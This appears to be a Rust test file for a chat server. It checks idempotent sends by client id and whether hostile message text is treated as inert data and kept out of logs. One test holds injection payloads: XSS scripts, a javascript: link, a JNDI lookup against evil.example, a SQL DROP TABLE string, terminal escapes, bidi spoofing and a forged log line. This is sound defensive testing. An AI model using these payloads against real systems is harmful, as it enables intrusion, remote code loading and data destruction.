//! Rows 18, 19 and 40: the same client id for something else, and bodies that are traps for whoever shows them.

use serde_json::json;

use crate::plain::Plain;
use crate::site::Site;

#[test]
fn n18_the_same_client_id_with_another_body_gives_the_first_message() {
    let mut site = Site::dev();
    let mut alice = Plain::open(&site, "alice");
    let conversation = alice.direct("bob");
    let memory = site.memory_kib();
    let first = alice.send(&conversation, "a1", "pay 10");
    for (text, kind) in [("pay 10000", "TEXT"), ("pay 10", "IMAGE")] {
        let body = json!({"conversation": conversation, "client_id": "a1", "kind": kind, "text": text});
        let again = alice.done("send", &body);
        assert_eq!((&again["duplicate"], &again["message"]), (&json!(true), &first["message"]));
    }
    // At once, so that they meet the first one on its way to the disk; as many as may wait for one message.
    let ids: Vec<u64> = (0..32)
        .map(|n| {
            let text = format!("version {n}");
            alice.post("send", &json!({"conversation": conversation, "client_id": "a2", "text": text}))
        })
        .collect();
    let replies: Vec<_> = ids.into_iter().map(|id| alice.reply(id)).collect();
    assert!(replies.iter().all(|reply| reply["data"]["message"] == replies[0]["data"]["message"]));
    assert_eq!(replies.iter().filter(|reply| reply["data"]["duplicate"] == false).count(), 1);
    let page = alice.done("history", &json!({"conversation": conversation}));
    assert_eq!(page["messages"].as_array().map(Vec::len), Some(2), "never a second row");
    site.unharmed(memory);
}

#[test]
fn n19_client_ids_of_others_and_of_other_conversations_are_independent() {
    let mut site = Site::dev();
    let (mut alice, mut bob) = (Plain::open(&site, "alice"), Plain::open(&site, "bob"));
    let (direct, group) = (alice.direct("bob"), alice.group("ours", &["bob"]));
    let memory = site.memory_kib();
    for conversation in [&direct, &group] {
        for (user, text) in [(&mut alice, "from alice"), (&mut bob, "from bob")] {
            let sent = user.send(conversation, "a1", text);
            assert_eq!((&sent["duplicate"], &sent["message"]["text"]), (&json!(false), &json!(text)));
            let again = user.send(conversation, "a1", text);
            assert_eq!((&again["duplicate"], &again["message"]), (&json!(true), &sent["message"]));
        }
    }
    // Names and ids that run together must not meet.
    let (mut a, mut ab) = (Plain::open(&site, "a"), Plain::open(&site, "ab"));
    let together = a.direct("ab");
    assert_eq!(a.send(&together, "bc", "one")["duplicate"], false);
    assert_eq!(ab.send(&together, "c", "two")["duplicate"], false);
    site.unharmed(memory);
}

#[test]
fn n40_traps_are_delivered_as_data_and_kept_out_of_the_log() {
    let mut site = Site::with_env(&[("SWITCHYARD__LOG__LEVEL", "trace")]);
    let (mut alice, mut bob) = (Plain::open(&site, "alice"), Plain::open(&site, "bob"));
    let conversation = alice.direct("bob");
    bob.done("subscribe", &json!({"conversations": [conversation]}));
    let memory = site.memory_kib();
    let traps = [
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "[click](javascript:alert(1)) ![x](http://evil.example/pixel.png)",
        "\u{1b}]0;title\u{7}\u{1b}[2J\u{1b}[31mred\u{1b}[0m",
        "\u{202e}gpj.exe\u{202c} \u{2066}x\u{2069} \u{200f}",
        "{{7*7}} ${jndi:ldap://evil.example/a} %n%s '; DROP TABLE messages; --",
        "line\r\nERROR forged log line",
        "\u{fffd}\u{fffe}\u{1F468}\u{200d}\u{1F469}\u{200d}\u{1F467} e\u{301}\u{301}\u{301}",
    ];
    for (n, trap) in traps.iter().enumerate() {
        let sent = alice.send(&conversation, &format!("a{n}"), trap);
        assert_eq!(sent["message"]["text"], *trap);
        assert_eq!(bob.event("message")["message"]["text"], *trap);
        // They are no less data where there is an id or a name.
        assert_eq!(alice.send(&conversation, trap, "x")["message"]["client_id"], *trap);
        bob.event("message");
        let group = alice.group(trap, &["bob", trap]);
        assert_eq!(bob.done("get", &json!({"conversation": group}))["conversation"]["name"], *trap);
        let mut namesake = Plain::open(&site, trap);
        assert_eq!(namesake.send(&group, "a", "x")["message"]["sender"], *trap);
        let id = sent["message"]["id"].clone();
        let edited = format!("{trap} {trap}");
        alice.done("edit", &json!({"id": id, "text": edited}));
        assert_eq!(bob.event("updated")["message"]["text"], edited);
        alice.done("update", &json!({"conversation": group, "context": trap}));
        assert_eq!(bob.done("get", &json!({"conversation": group}))["conversation"]["context"], *trap);
        alice.done("block", &json!({"user": trap}));
        assert_eq!(alice.done("blocks", &json!({}))["users"], json!([trap]));
        assert_eq!(namesake.refused("create", &json!({"kind": "direct", "members": ["alice"]})), "FORBIDDEN");
        alice.done("unblock", &json!({"user": trap}));
        alice.done("subscribe", &json!({"conversations": [group]}));
        let watched = alice.done("watch", &json!({"conversation": group, "users": [trap]}));
        assert_eq!(watched["presence"][0]["user"], *trap);
        let marks = alice.done("marks", &json!({"conversation": group}));
        let members = marks["marks"].as_array().expect("a list");
        assert!(members.iter().any(|member| member["user"] == *trap), "{marks}");
        alice.done("unsubscribe", &json!({"conversations": [group]}));
        for name in ["erase", "accept", "decline", "archive", "get", "watch", "leave"] {
            assert_eq!(alice.refused(name, &json!({"conversation": trap})), "NOT_FOUND", "{name}");
        }
        // And in what is wrong: the answer repeats nothing that could do harm.
        let reply = alice.ask(trap, &json!({}));
        let message = reply["error"]["message"].as_str().expect("text");
        assert!(!message.contains(['<', '\u{1b}', '\u{202e}', '\n', '$']), "{message:?}");
    }
    site.unharmed(memory);
    let log = site.log();
    for harmful in ["<script>", "\u{1b}]0;", "\u{1b}[2J", "\u{202e}", "\nERROR forged", "jndi"] {
        assert!(!log.contains(harmful), "{harmful:?} is in the log");
    }
}
